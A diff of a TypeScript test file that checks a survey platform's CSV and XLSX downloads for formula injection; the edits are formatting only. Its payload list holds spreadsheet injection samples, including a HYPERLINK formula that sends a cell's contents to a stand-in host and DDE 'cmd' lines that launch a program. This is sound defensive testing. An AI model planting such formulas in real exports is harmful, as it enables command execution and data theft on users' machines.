@@ -25,9 +25,9 @@ const { app, database } = useTestApp();
 const PAYLOADS = [
   '=HYPERLINK("http://example.invalid/?d="&A1,"Bấm vào đây")',
   "=cmd|' /C calc'!A0",
-  '+1+cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   '＝1+1',
@@ -46,7 +46,11 @@ async function parameterValues(): Promise<Record<string, string>> {
 
 const QUERIES = ['', '?by=province,district,commune', '?format=csv', '?format=xlsx'];
 
-interface Download { url: string; kind: 'csv' | 'xlsx'; cells: Array<{ value: unknown; formula: boolean }> }
+interface Download {
+  url: string;
+  kind: 'csv' | 'xlsx';
+  cells: Array<{ value: unknown; formula: boolean }>;
+}
 
 async function cellsOf(kind: 'csv' | 'xlsx', bytes: Buffer): Promise<Download['cells']> {
   if (kind === 'csv') return (parse(bytes, { bom: true, relax_column_count: true }) as string[][]).flat().map((value) => ({ value, formula: false }));
@@ -92,7 +96,11 @@ describe('every CSV and XLSX the platform serves', () => {
     for (const [k, payload] of PAYLOADS.entries()) {
       // Distinct, plausibly timed responses: near-identical or implausible ones would be held out of the downloads.
       const { profile, answers } = distinctAnswers(k);
-      const res = await app().inject({ method: 'POST', url: '/api/responses', payload: { id: randomUUID(), link, profile, answers: { ...answers, comment: payload }, ...plausibleTimes() } });
+      const res = await app().inject({
+        method: 'POST',
+        url: '/api/responses',
+        payload: { id: randomUUID(), link, profile, answers: { ...answers, comment: payload }, ...plausibleTimes() },
+      });
       expect(res.statusCode, res.body).toBe(201);
     }
   });
@@ -101,7 +109,10 @@ describe('every CSV and XLSX the platform serves', () => {
     const downloads = await everyDownload(admin);
     const urls = downloads.map((d) => d.url.replace(/\?.*/, ''));
     for (const expected of ['results.csv', 'results.xlsx', 'microdata.csv', 'codebook.csv', 'import-template']) {
-      expect(urls.some((u) => u.endsWith(expected)), `${expected} was downloaded`).toBe(true);
+      expect(
+        urls.some((u) => u.endsWith(expected)),
+        `${expected} was downloaded`,
+      ).toBe(true);
     }
     for (const download of downloads) {
       for (const cell of download.cells) {
